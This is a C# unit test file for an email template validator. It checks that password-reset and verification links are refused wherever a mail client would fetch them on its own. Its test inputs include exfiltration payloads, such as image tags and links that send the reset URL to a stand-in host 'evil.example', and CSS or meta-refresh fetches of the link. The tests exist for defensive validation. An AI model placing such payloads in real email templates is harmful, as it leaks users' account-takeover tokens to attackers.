using System.Net;
using System.Net.Http.Json;
using SalesMind.Notifier.Rendering;

namespace SalesMind.Notifier.UnitTests;

/// <summary>
/// An admin (or a stolen admin token) must not be able to write a template that hands a reset or
/// verification link to someone else's server the moment the email is opened: a secret link may
/// only be text or the whole href of an &lt;a&gt;.
/// </summary>
public sealed class SecretLinkPlacementRulesTests
{
    private static readonly string[] Variables = ["Username", "ResetUrl", "VerificationUrl", "SiteName"];

    private static Dictionary<string, List<TemplateProblem>> Problems(string subject, string html, string text = "@Model.ResetUrl")
    {
        try
        {
            TemplateStore.Parse(subject, html, text, Variables);
            return [];
        }
        catch (TemplateInvalidException ex)
        {
            return ex.Problems.ToDictionary(p => p.Key, p => p.Value);
        }
    }

    [Theory]
    [InlineData("""<img src="https://evil.example/p?u=@Model.ResetUrl">""")]
    [InlineData("""<img src="@Model.ResetUrl">""")]
    [InlineData("""<table background="@Model.VerificationUrl"></table>""")]
    [InlineData("""<div style="background:url(@Model.ResetUrl)">x</div>""")]
    [InlineData("""<style>.x { background: url(@Model.ResetUrl) }</style>""")]
    [InlineData("""<a href="https://evil.example/?u=@Model.ResetUrl">reset</a>""")]
    [InlineData("""<a href="@Model.ResetUrl&x=1">reset</a>""")]
    [InlineData("""<area href="@Model.ResetUrl">""")]
    [InlineData("""<meta http-equiv="refresh" content="0;url=@Model.ResetUrl">""")]
    [InlineData("""<link rel="prefetch" href="@Model.ResetUrl">""")]
    [InlineData("""<!-- <img src="@Model.ResetUrl"> -->""")]
    [InlineData("""<a href="@Model.ResetUrl.ToUpper()">reset</a>""")]
    public void A_secret_link_where_a_mail_client_would_fetch_it_is_refused_with_its_place(string html)
    {
        var problems = Problems("Reset", html);

        var problem = Assert.Single(Assert.Contains("html", problems));
        Assert.Contains("secret account link", problem.Message);
        Assert.Equal(1, problem.Line);
    }

    [Fact]
    public void A_secret_link_in_the_subject_is_refused() =>
        Assert.Contains("subject", Problems("Your link: @Model.ResetUrl", "<p>hi</p>"));

    [Theory]
    [InlineData("""<a href="@Model.ResetUrl">reset</a>""")]
    [InlineData("""<a class="button" style="color:red" href='@Model.ResetUrl'>reset</a>""")]
    [InlineData("""<p>Paste this into your browser: @Model.ResetUrl</p>""")]
    [InlineData("""<a href="@Model.ResetUrl">@Model.ResetUrl</a><img src="https://cdn.example/logo.png">""")]
    public void As_text_or_the_whole_href_of_a_link_it_is_allowed(string html) =>
        Assert.Empty(Problems("Reset your password", html));

    [Fact]
    public void Every_shipped_template_keeps_its_links_where_they_are_allowed()
    {
        foreach (var template in TemplateCatalog.BuiltIn)
        {
            foreach (var locale in TemplateCatalog.Locales)
            {
                var names = template.Variables.Select(v => v.Name).ToList();
                TemplateStore.Parse(
                    TemplateCatalog.ShippedSource(template, locale, "subject"),
                    TemplateCatalog.ShippedSource(template, locale, "html"),
                    TemplateCatalog.ShippedSource(template, locale, "text"), names);
            }
        }
    }
}

/// <summary>The same rule through the admin API: the version is refused, naming the place, and nothing is saved.</summary>
